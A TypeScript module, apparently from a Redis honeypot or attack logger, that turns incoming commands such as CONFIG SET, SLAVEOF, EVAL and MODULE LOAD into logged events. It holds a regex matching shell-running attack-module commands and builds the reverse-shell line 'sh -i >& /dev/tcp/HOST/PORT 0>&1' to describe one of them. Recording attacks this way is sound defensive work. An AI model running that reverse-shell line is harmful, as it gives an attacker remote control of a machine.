import { createHash } from 'node:crypto';
import type { Act, Cut } from '../model/act.ts';
import type { ByteString } from '../model/bytes.ts';
import { cutOf } from './cut-of.ts';
import type { CommandContext } from './interpret.ts';
import { writtenValues } from './written-values.ts';

type Meaning = (
  args: readonly ByteString[],
  accepted: boolean,
  context: CommandContext,
  cut: readonly Cut[],
) => Act[];

const LONGEST_BODY = 65_536;
const LONGEST_SHELL_LINE = 16_384;

/** What a command means beside having been sent. Tried and refused counts too: `accepted` tells. */
export function meaningOf(
  name: string,
  args: readonly ByteString[],
  accepted: boolean,
  context: CommandContext,
  cut: readonly Cut[],
): Act[] {
  if (Object.hasOwn(MEANINGS, name)) return MEANINGS[name]?.(args, accepted, context, cut) ?? [];
  if (isShell(name)) return shellLine(args, accepted, context, cut);
  return writtenValues(name, args, context.db, cut);
}

/** Commands of attack modules that hand their argument to a shell: `system.exec` and what others call it. */
function isShell(name: string): boolean {
  return /\.(exec|rev|run|cmd|shell|sh|bash|system|eval|execute|popen)$/.test(name);
}

/** `system.rev HOST PORT` has no line: it ties a shell to that place, which is what the line says. */
const shellLine: Meaning = (args, _accepted, _context, cuts) => {
  const [first = '', second] = args;
  if (first === '') return [];
  const opens = args.length === 2 && /^\d{1,5}$/.test(second ?? '');
  const line = opens ? `sh -i >& /dev/tcp/${first.slice(0, 253)}/${second} 0>&1` : first;
  const before = cuts.find((one) => one.index === 0);
  const cut = before ?? (line.length > LONGEST_SHELL_LINE ? cutOf(0, line) : undefined);
  return [
    {
      type: 'shell.command',
      via: 'module',
      line: line.slice(0, LONGEST_SHELL_LINE),
      ...(cut === undefined ? {} : { cut: [{ ...cut, index: -1 }] }),
    },
  ];
};

const save =
  (command: string): Meaning =>
  (_, accepted, { dir, dbfilename }) => [{ type: 'redis.save', command, dir, dbfilename, accepted }];

const replicaOf: Meaning = ([host = '', port = ''], accepted) => {
  const freed = host.toLowerCase() === 'no' && port.toLowerCase() === 'one';
  return [
    {
      type: 'redis.replica-of',
      host: freed ? null : host.slice(0, 256),
      port: freed || !/^\d{1,9}$/.test(port) ? null : Number(port),
      accepted,
    },
  ];
};

/** The code stands first, or (FUNCTION LOAD REPLACE) last. Of code that came cut, the SHA-1 is that of its head. */
const script =
  (via: 'eval' | 'script-load' | 'function-load'): Meaning =>
  (args, _accepted, _context, cuts) => {
    const index = via === 'function-load' ? args.length - 1 : 0;
    const body = args[index];
    if (body === undefined) return [];
    const before = cuts.find((one) => one.index === index);
    const cut = before ?? (body.length > LONGEST_BODY ? cutOf(index, body) : undefined);
    return [
      {
        type: 'redis.script',
        via,
        body: body.slice(0, LONGEST_BODY),
        sha1: createHash('sha1').update(body, 'latin1').digest('hex'),
        ...(cut === undefined ? {} : { cut: [{ ...cut, index: -1 }] }),
      },
    ];
  };

const module =
  (action: 'load' | 'unload'): Meaning =>
  ([what = ''], accepted) => [
    {
      type: 'redis.module',
      action,
      ...(action === 'load' ? { path: what.slice(0, 4_096) } : { name: what.slice(0, 256) }),
      accepted,
    },
  ];

const settings: Meaning = (args, accepted) => {
  const acts: Act[] = [];
  for (let at = 0; at + 1 < args.length && acts.length < 64; at += 2) {
    const [name = '', value = ''] = args.slice(at, at + 2);
    acts.push({
      type: 'redis.setting',
      name: name.slice(0, 128).toLowerCase(),
      value: value.slice(0, 4_096),
      accepted,
    });
  }
  return acts;
};

const login: Meaning = (args, accepted) => [
  {
    type: 'redis.login',
    user: args.length > 1 ? (args[0] ?? '').slice(0, 256) : 'default',
    password: (args.length > 1 ? args[1] : args[0])?.slice(0, 512) ?? '',
    accepted,
  },
];

const hello: Meaning = (args, accepted, context, cut) => {
  const at = args.findIndex((word) => word.toLowerCase() === 'auth');
  return at < 0 || at + 2 >= args.length ? [] : login(args.slice(at + 1, at + 3), accepted, context, cut);
};

const MEANINGS: Readonly<Record<string, Meaning>> = {
  'config|set': settings,
  auth: login,
  hello,
  save: save('save'),
  bgsave: save('bgsave'),
  bgrewriteaof: save('bgrewriteaof'),
  shutdown: (args, accepted, context, cut) =>
    args[0]?.toLowerCase() === 'nosave' ? [] : save('shutdown')(args, accepted, context, cut),
  slaveof: replicaOf,
  replicaof: replicaOf,
  eval: script('eval'),
  eval_ro: script('eval'),
  'script|load': script('script-load'),
  'function|load': script('function-load'),
  'module|load': module('load'),
  'module|loadex': module('load'),
  'module|unload': module('unload'),
};
